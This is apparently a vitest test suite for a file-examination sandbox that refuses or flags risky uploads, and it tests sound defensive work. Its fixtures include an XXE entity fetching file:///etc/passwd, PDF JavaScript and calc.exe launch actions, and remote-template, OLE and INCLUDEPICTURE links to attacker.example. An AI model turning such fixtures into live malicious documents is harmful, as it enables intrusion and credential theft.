import { expect, onTestFinished, test } from 'vitest';
import { type Examination, examinationSchema, examineFile, type Remark } from '../examination';
import { OF_A_KIND_AT_ONCE, openSandbox } from '../sandbox';
import { docxOf, jpegWithPlace, odtOf, oldWordOf, pdfOf, zipOf } from './testing';

const taken = (remarks: Remark[] = []): Examination => ({ verdict: 'taken', remarks, findings: [] });
const refused = (reason: string) => ({ verdict: 'refused', reason });

async function findingsIn(file: Buffer, kind: string): Promise<string[]> {
  const examination = await examineFile(file, kind);
  return examination.verdict === 'taken'
    ? examination.findings.map((one) => `${one.kind}: ${one.value}`)
    : [examination.reason];
}

async function remarksOn(file: Buffer, kind: string): Promise<readonly string[]> {
  const examination = await examineFile(file, kind);
  return examination.verdict === 'taken' ? examination.remarks : [examination.reason];
}

const W = 'xmlns:w="w"';
const story = (inside: string) => `<?xml version="1.0"?><w:document ${W}><w:body>${inside}</w:body></w:document>`;
const relations = (inside: string) => `<Relationships xmlns="r">${inside}</Relationships>`;
const TEXT = '<w:p><w:r><w:t>Text</w:t></w:r></w:p>';

test('plain documents are taken without a remark', async () => {
  expect(await examineFile(docxOf(), 'docx')).toEqual(taken());
  expect(await examineFile(odtOf(), 'odt')).toEqual(taken());
  expect(await examineFile(Buffer.from('{\\rtf1 Text}'), 'rtf')).toEqual(taken());
  expect(await examineFile(Buffer.from('ბევრი ტექსტი'), 'txt')).toEqual(taken());
  expect(await remarksOn(await pdfOf(), 'pdf')).toEqual([]);
});

test('a PDF that asks for a password is refused, one that only forbids printing is not', async () => {
  expect(await examineFile(await pdfOf({ userPassword: 'secret' }), 'pdf')).toEqual(refused('password'));
  expect(await remarksOn(await pdfOf({ ownerPassword: 'secret', permissions: {} }), 'pdf')).toEqual([]);
});

test('a PDF with junk before its header or a lost table is opened as viewers open it', async () => {
  const whole = await pdfOf();
  expect(await remarksOn(Buffer.concat([Buffer.from('HTTP/1.1 200 OK\r\n\r\n'), whole]), 'pdf')).toEqual([]);
  const broken = Buffer.from(whole.toString('latin1').replace(/startxref\n\d+/, 'startxref\n1'), 'latin1');
  expect(await remarksOn(broken, 'pdf')).toEqual([]);
});

test('a PDF that only other viewers open is mended as they mend it', async () => {
  const whole = (await pdfOf()).toString('latin1');
  const header = Buffer.from(whole.replace('%PDF-', '%PDF.'), 'latin1');
  expect(await remarksOn(header, 'pdf')).toEqual([]);
  const trailer = Buffer.from(whole.replace(/\/Root \d+ 0 R/, '/Root 99 0 R'), 'latin1');
  expect(await remarksOn(trailer, 'pdf')).toEqual([]);
  const junk = Buffer.concat([Buffer.from('HTTP/1.1 200 OK\r\n\r\n'), trailer]);
  expect(await remarksOn(junk, 'pdf')).toEqual([]);
});

test('a document from Word 6 or 95 is taken, unless it is a template, where macros were kept then', async () => {
  expect(await examineFile(oldWordOf('Curriculum vitae'), 'doc')).toEqual(taken());
  expect(await examineFile(oldWordOf('Curriculum vitae', { flags: 0x0100 }), 'doc')).toEqual(refused('password'));
  expect(await examineFile(oldWordOf('Curriculum vitae', { flags: 0x0001 }), 'doc')).toEqual(refused('macros'));
});

test('a PDF that breaks off early is refused as damaged', async () => {
  expect(await examineFile((await pdfOf()).subarray(0, 60), 'pdf')).toEqual(refused('damaged'));
});

test('an empty page is remarked upon, an empty text is refused', async () => {
  expect(await remarksOn(await pdfOf({}, ''), 'pdf')).toEqual(['blank']);
  expect(await examineFile(docxOf({ 'word/document.xml': story('<w:p/>') }), 'docx')).toEqual(taken(['blank']));
  expect(await examineFile(Buffer.from(' \r\n\t\r\n'), 'txt')).toEqual(refused('empty'));
});

test('what a PDF would do on being opened is remarked upon and not done', async () => {
  const action = (body: string) =>
    Buffer.from(
      `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[]/Contents 5 0 R>>endobj\n4 0 obj${body}endobj\n5 0 obj<</Length 12>>stream\n0 0 9 9 re f\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
    );
  expect(await remarksOn(action('<</S/JavaScript/JS(app.alert(1))>>'), 'pdf')).toEqual(['script']);
  expect(await remarksOn(action('<</S/#4aavaScript/JS(app.alert(1))>>'), 'pdf')).toEqual(['script']);
  expect(await remarksOn(action('<</S/Launch/F(calc.exe)>>'), 'pdf')).toEqual(['launches']);
});

test('a bomb is stopped while it is inflated, by size, by ratio and by number of members', async () => {
  const zeros = Buffer.alloc(20 * 1024 * 1024);
  const dense = docxOf({ 'word/media/zeros.bin': zeros });
  expect(await examineFile(dense, 'docx')).toEqual(refused('too_large_inside'));
  const many = Object.fromEntries(Array.from({ length: 2100 }, (_, index) => [`word/part${index}.bin`, 'x']));
  expect(await examineFile(docxOf(many), 'docx')).toEqual(refused('too_large_inside'));
  const half = Buffer.alloc(
    11 * 1024 * 1024,
    Array.from({ length: 12_000 }, (_, index) => (index * 7919) % 251).join(''),
  );
  const large = Object.fromEntries(Array.from({ length: 20 }, (_, index) => [`word/media/${index}.bin`, half]));
  expect(await examineFile(docxOf(large), 'docx')).toEqual(refused('too_large_inside'));
});

test('encrypted Word and OpenDocument files are refused with the password as reason', async () => {
  const manifest =
    '<manifest:manifest xmlns:manifest="m"><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>';
  expect(await examineFile(odtOf({ 'META-INF/manifest.xml': manifest }), 'odt')).toEqual(refused('password'));
  expect(await examineFile(zipOf([{ name: '[Content_Types].xml', bytes: 'x', flags: 1 }]), 'docx')).toEqual(
    refused('password'),
  );
});

test('macros are refused, empty lists of macros are not', async () => {
  const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
  expect(await examineFile(docxOf({}, macroType), 'docx')).toEqual(refused('macros'));
  expect(await examineFile(docxOf({ 'word/vbaProject.bin': 'unreadable' }), 'docx')).toEqual(refused('macros'));
  expect(await examineFile(odtOf({ 'Basic/Standard/Module1.xml': '<x/>' }), 'odt')).toEqual(refused('macros'));
  expect(await examineFile(odtOf({ 'Basic/Standard/script-lb.xml': '<x/>' }), 'odt')).toEqual(taken());
});

test('other things in a ZIP are not what they say', async () => {
  expect(await examineFile(zipOf([{ name: 'holiday.jpg', bytes: 'x' }]), 'docx')).toEqual(refused('not_what_it_says'));
  expect(await examineFile(odtOf(), 'docx')).toEqual(refused('not_what_it_says'));
  expect(await examineFile(odtOf({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet' }), 'odt')).toEqual(
    refused('not_what_it_says'),
  );
  expect(await examineFile(docxOf({ 'word/document.xml': '<w:document' }), 'docx')).toEqual(refused('damaged'));
});

test('entities are neither expanded nor fetched', async () => {
  const laughs = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b SYSTEM "file:///etc/passwd">]>';
  expect(await examineFile(docxOf({ 'word/document.xml': `${laughs}${story(TEXT).slice(21)}` }), 'docx')).toEqual(
    refused('entities'),
  );
  expect(await examineFile(odtOf({ 'meta.xml': `${laughs}<x>&b;</x>` }), 'odt')).toEqual(refused('entities'));
});

test('what would be fetched from elsewhere is remarked upon', async () => {
  const relation = (type: string, target: string) =>
    docxOf({
      'word/_rels/document.xml.rels': relations(
        `<Relationship Id="a" Type="http://schemas/${type}" Target="${target}" TargetMode="External"/>`,
      ),
    });
  expect(await remarksOn(relation('attachedTemplate', 'https://attacker.example/t.dotm'), 'docx')).toEqual([
    'remote_template',
  ]);
  expect(await remarksOn(relation('image', '\\\\attacker\\share\\x.png'), 'docx')).toEqual(['remote_content']);
  expect(await remarksOn(relation('oleObject', 'http://attacker.example/x'), 'docx')).toEqual(['remote_content']);
  expect(await remarksOn(relation('hyperlink', 'https://example.org/'), 'docx')).toEqual([]);
  expect(await remarksOn(relation('attachedTemplate', 'file:///C:/Templates/Normal.dotm'), 'docx')).toEqual([]);
  const field = story(
    `${TEXT}<w:p><w:r><w:instrText>INCLUDEPICTURE "http://attacker.example/x"</w:instrText></w:r></w:p>`,
  );
  expect(await remarksOn(docxOf({ 'word/document.xml': field }), 'docx')).toEqual(['live_fields']);
  const rtf = '{\\rtf1{\\*\\template http://attacker.example/t.dot}{\\object\\objupdate{\\*\\objdata 00}}Text}';
  expect(await remarksOn(Buffer.from(rtf), 'rtf')).toEqual(['embedded', 'remote_template', 'remote_content']);
});

test('a Word document says who wrote it, changed it and commented on it', async () => {
  const file = docxOf({
    'docProps/core.xml':
      '<cp:coreProperties xmlns:cp="c" xmlns:dc="d" xmlns:dcterms="t"><dc:creator>Levan K.</dc:creator><cp:lastModifiedBy>Office PC</cp:lastModifiedBy><dcterms:created>2024-03-01T10:00:00Z</dcterms:created></cp:coreProperties>',
    'docProps/app.xml':
      '<Properties xmlns="p"><Application>Microsoft Word</Application><Company>Daily Mountain</Company></Properties>',
    'word/document.xml': story(`${TEXT}<w:ins w:id="1" w:author="Nino"><w:r><w:t>new</w:t></w:r></w:ins>`),
    'word/comments.xml': '<w:comments xmlns:w="w"><w:comment w:id="0" w:author="The chief"/></w:comments>',
  });
  expect((await findingsIn(file, 'docx')).sort()).toEqual([
    'author: Levan K.',
    'comment_author: The chief',
    'company: Daily Mountain',
    'created: 2024-03-01T10:00:00Z',
    'last_editor: Office PC',
    'revision_author: Nino',
    'software: Microsoft Word',
  ]);
});

test('an OpenDocument text, a PDF and a rich text say the same of theirs', async () => {
  const meta =
    '<office:document-meta xmlns:office="o" xmlns:meta="m" xmlns:dc="d"><office:meta><meta:initial-creator>Արամ</meta:initial-creator><dc:creator>Սոնա</dc:creator></office:meta></office:document-meta>';
  expect(await findingsIn(odtOf({ 'meta.xml': meta }), 'odt')).toEqual(['author: Արամ', 'last_editor: Սոնա']);
  const pdf = await pdfOf({ info: { Author: 'გიორგი', CreationDate: new Date('2024-01-02T03:04:05Z') } });
  expect(await findingsIn(pdf, 'pdf')).toContain('author: გიორგი');
  expect(await findingsIn(pdf, 'pdf')).toContain('created: 2024-01-02T03:04:05Z');
  const rtf =
    "{\\rtf1\\ansicpg1251{\\info{\\author \\'cc\\'e0\\'f0\\'e8\\'ff}{\\creatim\\yr2020\\mo5\\dy6\\hr7\\min8}}Text}";
  expect(await findingsIn(Buffer.from(rtf), 'rtf')).toEqual(['author: Мария', 'created: 2020-05-06T07:08:00Z']);
});

test('a photograph says where it was taken, also inside a document', async () => {
  const expected = ['place: 41.71500, 44.82694', 'author: Tamar', 'camera: Canon EOS 5D'];
  expect(await findingsIn(jpegWithPlace(), 'jpeg')).toEqual(expected);
  expect(await findingsIn(docxOf({ 'word/media/image1.jpg': jpegWithPlace() }), 'docx')).toEqual(expected);
});

test('a picture that would fill the memory, or is none, is refused', async () => {
  const png = Buffer.alloc(64);
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]).copy(png);
  png.write('IHDR', 12, 'latin1');
  png.writeUInt32BE(60_000, 16);
  png.writeUInt32BE(60_000, 20);
  png.write('IDAT', 40, 'latin1');
  expect(await examineFile(png, 'png')).toEqual(refused('too_large_inside'));
  expect(await examineFile(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 0, 0]), 'jpeg')).toEqual(refused('damaged'));
});

test('somebody waits for what comes of it: it does not stand in line behind first readings', async () => {
  const readings = Array.from({ length: OF_A_KIND_AT_ONCE + 1 }, () => openSandbox(Buffer.from('A reading')));
  onTestFinished(async () => {
    await Promise.all(readings.map((reading) => reading.close()));
  });
  const begun = readings.map((reading) =>
    reading.run({ task: 'examine', params: { kind: 'txt' }, answer: examinationSchema }).then(
      () => 'done',
      () => 'closed',
    ),
  );
  // Each keeps its place until it is closed.
  await Promise.all(begun.slice(0, OF_A_KIND_AT_ONCE));
  expect(await examineFile(Buffer.from('Text'), 'txt')).toEqual(taken());
  expect(await Promise.race([begun.at(-1), Promise.resolve('waits')])).toBe('waits');
});
